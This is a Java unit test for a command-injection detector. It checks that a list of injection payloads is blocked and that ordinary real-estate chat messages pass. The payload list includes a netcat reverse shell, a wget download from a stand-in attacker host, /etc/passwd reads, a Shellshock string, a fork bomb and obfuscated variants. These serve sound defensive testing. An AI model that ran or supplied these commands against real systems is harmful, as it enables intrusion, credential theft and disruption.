package io.warden.rules.inspect.shell;

import io.warden.rules.inspect.Inspect;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class CommandInjectionDetectorTest {

    private final CommandInjectionDetector detector = new CommandInjectionDetector();

    @ParameterizedTest
    @ValueSource(strings = {
        "; id",
        "127.0.0.1; cat /etc/passwd",
        "x | whoami",
        "&& uname -a",
        "|| ping -c 10 127.0.0.1",
        "$(whoami)",
        "`id`",
        "a;cat${IFS}/etc/passwd",
        "w'h'o'am'i",
        "{cat,/etc/passwd}",
        "() { :;}; /bin/bash -c 'id'",
        ":(){ :|:& };:",
        "& cmd /c dir C:\\",
        "| powershell -enc SQBFAFgA",
        "nc -e /bin/sh 10.0.0.1 4444",
        "wget http://evil.example/x.sh -O /tmp/x.sh",
        "ifconfig",
        "\nRCPT TO:<postmaster@example.com>",
        "IF EXIST C:\\pagefile.sys ECHO found",
        "a=c;b=at;$a$b /etc/passwd",
        "u=wh;v=oami;$u$v",
        "{n$u\\c$u,-nlvp,4444}",
        "/usr/bin/find / -perm -4000",
        "garb=adduse[r];$garb mallory",
    })
    void commandInjectionsReachTheDefaultThreshold(String payload) {
        assertThat(Inspect.score(detector, payload)).as("command injection must block: %s", payload)
                .isGreaterThanOrEqualTo(Inspect.threshold());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "In bash I tried: cat listings.csv | grep Boston | wc -l -- is that the right count?",
        "The dev said to run `npm install` then `npm run build` to update the listing site",
        "find flights from boston to denver",
        "Can you format the comparison as a markdown table? | Address | Price | Beds |",
        "I'd like to schedule a viewing for Tuesday 3:30-4:00pm if that's OK",
        "What's the difference between a condo & a co-op?",
        "set a timer for 10 minutes",
        "Exec summary: we can afford $3,200/month max, including taxes",
        "Show me houses between $450,000 and $600,000 with 3+ bedrooms",
        "budget=$500k; rate=6.5% -- is $budget enough for a 2-bed in Ballard?",
        "Is the 3D tour of 42 Elm St available? The 2d floor plan looks off",
    })
    void chatPasses(String text) {
        assertThat(Inspect.score(detector, text)).as("honest text must pass: %s", text).isLessThan(Inspect.threshold());
    }
}
